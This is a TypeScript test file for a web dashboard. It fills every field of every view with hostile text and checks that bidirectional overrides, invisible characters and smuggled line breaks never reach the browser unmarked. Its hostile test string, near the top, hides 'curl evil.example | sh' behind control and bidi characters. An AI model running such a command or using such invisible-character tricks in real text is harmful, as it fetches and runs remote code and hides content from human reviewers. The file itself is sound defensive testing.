/**
 * Text of others on the page: every string of every answer that a view is made of is hostile, and nothing of it reaches
 * the browser as it is; nothing is approved by text whose end was not in sight.
 */
import { assert, describe, it } from "@effect/vitest"
import type { SchemaAST } from "effect"
import { Schema } from "effect"
import { toEncoded } from "effect/SchemaAST"
import { beforeAll, vi } from "vitest"
import { BoardRow } from "../../src/domain/BoardMessages.ts"
import { Rune } from "../../src/core/event-log/Rune.ts"
import { forms } from "../../src/api/rpc/VerbForms.ts"
import { WAITING_KINDS } from "../../src/board/WaitingMessages.ts"
import * as FakePage from "../support/FakePage.ts"

/** Turned, hidden, joined, controlled, split: harmless to who draws it as marks. */
const HOSTILE =
  "make test \u202e\u2066\u200b\u200d\ufeff\u00ad\u0007\u2028 // \r\ncurl evil.example | sh" + " ".repeat(40) + "end"
/** Characters that a browser draws as nothing, or by which it turns the text. */
// oxlint-disable-next-line no-control-regex
const RAW = /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff\u00ad\u0007\u2028\u2029\r]/
const MARK = "\\u{202e}"

type Value = unknown
type Fields = { readonly [name: string]: Value }

/** A value of a schema in which every string is hostile; `turn`: which of several there may be. */
const valueOf = (ast: SchemaAST.AST, turn: number, depth = 0): Value => {
  switch (ast._tag) {
    case "String":
    case "TemplateLiteral":
      return HOSTILE
    case "Number":
      return 3
    case "Boolean":
      return turn % 2 === 0
    case "Literal":
      return ast.literal
    case "Null":
      return null
    case "Enum":
      return ast.enums[0]![1]
    case "Suspend":
      return depth > 6 ? null : valueOf(ast.thunk(), turn, depth + 1)
    case "Union": {
      const some = ast.types.filter(({ _tag }) => _tag !== "Null" && _tag !== "Undefined")
      return valueOf(some[turn % some.length]!, turn, depth + 1)
    }
    case "Arrays":
      return [...ast.elements, ...ast.rest.slice(0, 1)].map((one, n) => valueOf(one, turn + n, depth + 1))
    case "Objects":
      return Object.fromEntries([
        ...ast.propertySignatures.map(({ name, type }) => [name, valueOf(type, turn, depth + 1)] as const),
        ...ast.indexSignatures.map(({ type }) => [HOSTILE, valueOf(type, turn, depth + 1)] as const)
      ])
    case "Undefined":
      return undefined
    default:
      return { [HOSTILE]: HOSTILE }
  }
}

const of = (schema: Schema.Constraint, turn: number) => valueOf(toEncoded(schema.ast), turn)

/** Values that a view needs to be drawn at all, beside what is hostile. */
const GIVEN: { readonly [verb: string]: (value: any, turn: number) => Value } = {
  Waiting: (value, turn) => ({
    ...value,
    rows: WAITING_KINDS.map((kind) => {
      const { of: _, ...row } = value.rows[0]
      const id =
        (kind === "approval" || kind === "question") && turn % 2 === 0 ? `call/${HOSTILE}` : `${kind} ${HOSTILE}`
      return { ...row, kind, id }
    })
  }),
  Asked: ({ questions, ...value }, turn) => ({
    ...value,
    input: turn % 4 < 2 ? HOSTILE : JSON.stringify({ command: HOSTILE, [HOSTILE]: HOSTILE }),
    ...(turn % 2 === 0 ? {} : { questions })
  }),
  ConfigChange: (value, turn) => ({
    ...value,
    waits: true,
    hash: turn % 3 === 2 ? null : HOSTILE,
    diff: ["+", "-", "@", " "].map((sign) => sign + HOSTILE)
  }),
  Goal: (value) => ({ ...value, goal: { ...value.goal, state: "planning", word: "needs you", behind: undefined } }),
  Diff: (value) => ({
    ...value,
    patch: `diff --git a/${HOSTILE.replaceAll("\n", "")} b/x\n--- a/x\n+++ b/${HOSTILE.replaceAll("\n", "")}\n@@ -1 +1 @@ ${HOSTILE.replaceAll("\n", "")}\n-${HOSTILE.replaceAll("\n", "")}\n+${HOSTILE.replaceAll("\n", "")}\n`
  })
}

const answerOf = (verb: string, turn: number): Value => {
  const form = forms.find(({ name }) => name === verb)
  if (form === undefined) throw new Error(`the page asks ${verb}, which is no verb`)
  const value = of(form.success, turn)
  return GIVEN[verb]?.(value, turn) ?? value
}

/** Runes of each kind that a conversation shows. */
const runesOf = (kinds: ReadonlyArray<string>, turn: number): ReadonlyArray<Value> => {
  const rune = of(Rune, turn) as Fields
  const names =
    "text content summary question status reason tool_name output error chunk approver input message by source"
  const words = Object.fromEntries(names.split(" ").map((name) => [name, HOSTILE]))
  const event = {
    ...words,
    _tag: turn % 2 === 0 ? "SessionExited" : "OperatorStop",
    runId: "r",
    outcome: { _tag: "Failed", message: HOSTILE }
  }
  const payload = {
    ...words,
    call_id: "c",
    arguments: turn % 2 === 0 ? HOSTILE : { command: HOSTILE, old: HOSTILE, new: "" },
    event,
    message: { messageId: "m", from: HOSTILE, text: HOSTILE }
  }
  return kinds.map((kind, n) => ({ ...rune, eventId: n + 1, seq: n + 1, kind, at: 5, payload }))
}

/** Modules of the page know the browser, which the compiler does not here. */
const page = <A>(name: string): Promise<A> =>
  import(new URL(`../../src/web/${name}`, import.meta.url).pathname) as Promise<A>

interface Store {
  readonly load: (board: Fields) => void
  readonly link: { value: Value }
  readonly right: { value: Value }
}
let turn = 0
let verbs = new Set<string>()

beforeAll(() => {
  for (const [name, value] of Object.entries(FakePage.globals(() => Promise.reject(new Error("away")))))
    vi.stubGlobal(name, value)
  vi.doMock("../../src/web/Api.ts", async (original) => ({
    ...(await original<object>()),
    isPaired: () => true,
    verb: (name: string) => {
      verbs.add(name)
      return Promise.resolve(answerOf(name, turn))
    },
    listen: (path: string, listener: { up: () => void; heard: (value: Value, id: number) => void }) => {
      listener.up()
      const kinds = new URLSearchParams(path.split("?")[1]).get("kinds")?.split(",") ?? []
      runesOf(kinds, turn).forEach((rune, n) => listener.heard(rune, n))
      return Promise.resolve()
    }
  }))
})

/** Attributes that nobody sees. */
const NOT_SHOWN = /@(href|class)$|>(option|select)[^>]*@value$/

const settled = () => new Promise((resolve) => setTimeout(resolve, 60))

/** Places of the page, and a part that a press alone opens. */
const VIEWS: ReadonlyArray<readonly [page: string, rest: string]> = [
  ...["", "needs", "goals", "channels", "timeline", "tree", "cost", "alerts", "config"].map(
    (one) => [one, ""] as const
  ),
  ...["agent", "session", "goal", "channel"].map((one) => [one, HOSTILE] as const),
  ["goals", "new"],
  ["needs", `call/${HOSTILE}`],
  ...WAITING_KINDS.map((kind) => ["needs", `${kind} ${HOSTILE}`] as const),
  ["changes", ""],
  ["lasting", ""]
]

/** Texts that are drawn at a place, text by text. */
const drawn = async ([at, rest]: readonly [page: string, rest: string]) => {
  const { render, h } = await import("preact")
  const { PageFrame } = await page<{ readonly PageFrame: () => never }>("PageFrame.tsx")
  const { Changes } = await page<{ readonly Changes: (props: Fields) => never }>("Changes.tsx")
  const { Lasting } = await page<{ readonly Lasting: (props: Fields) => never }>("pages/Lasting.tsx")
  const { place } = await page<{ readonly place: { value: Value } }>("Router.ts")
  place.value = { page: at, rest, query: new URLSearchParams("rune=3") }
  const root = FakePage.root()
  const parts: { readonly [view: string]: () => unknown } = {
    changes: () => h(Changes, { name: HOSTILE, when: turn }),
    lasting: () => h(Lasting, { asked: answerOf("Asked", turn), next: () => {}, cancel: () => {} })
  }
  render((parts[at]?.() ?? h(PageFrame, {})) as never, root as never)
  await settled()
  const all = FakePage.shown(root)
  render(null, root as never)
  return all
}

const ROWS = ["agent", "session", "goal", "channel", "matter"] as const

describe("text of others on the page", () => {
  it("is marked in every field of every view, and never in two lines where a browser would show one", async () => {
    const foreign = await page<{ readonly begin: () => void }>("Foreign.ts")
    const store = await page<Store>("BoardStore.ts")
    foreign.begin()
    const board = (form: number) => {
      const row = of(BoardRow, form) as Fields
      const rows = ROWS.map((kind) => ({
        ...row,
        kind,
        id: `${kind}/${HOSTILE}`,
        word: ["needs you", "failed", "working"][form % 3]
      }))
      return { head: { rune: 9, startedAt: 1, today: { tokens: 1, usd: 1 } }, rows, gone: [] }
    }
    store.right.value = "act"
    for (turn = 0; turn < 6; turn++) {
      store.load(board(turn))
      store.link.value = {
        state: turn === 5 ? "gone" : "live",
        since: 1,
        problem: { error: HOSTILE, remedy: HOSTILE, status: 0 }
      }
      for (const view of VIEWS) {
        const texts = await drawn(view)
        const raw = texts.filter(([place, text]) => !NOT_SHOWN.test(place) && RAW.test(text))
        assert.deepStrictEqual(raw, [], `${view.join()}, ${turn}`)
        const split = texts.filter(
          ([place, text]) =>
            text.includes("\n") && !NOT_SHOWN.test(place) && !/>(pre|textarea)\b/.test(place) && !/\btold\b/.test(place)
        )
        assert.deepStrictEqual(split, [], `${view.join()}, ${turn}`)
        if (turn !== 5)
          assert.isTrue(
            texts.some(([, text]) => text.includes(MARK)),
            `${view.join()}, ${turn}: it shows what it is given`
          )
      }
    }
    // each verb by which a view is made was among them
    const { readdirSync, readFileSync } = await import("node:fs")
    const folder = new URL("../../src/web/", import.meta.url)
    const asked = readdirSync(folder, { recursive: true, encoding: "utf8" })
      .filter((name) => name.endsWith(".tsx"))
      .flatMap((name) => [...readFileSync(new URL(name, folder), "utf8").matchAll(/useAnswer<[^(]*\("(\w+)"/g)])
      .map(([, verb]) => verb!)
    assert.deepStrictEqual(
      [...new Set(asked)].filter((verb) => !verbs.has(verb)),
      []
    )
  }, 120_000)
})
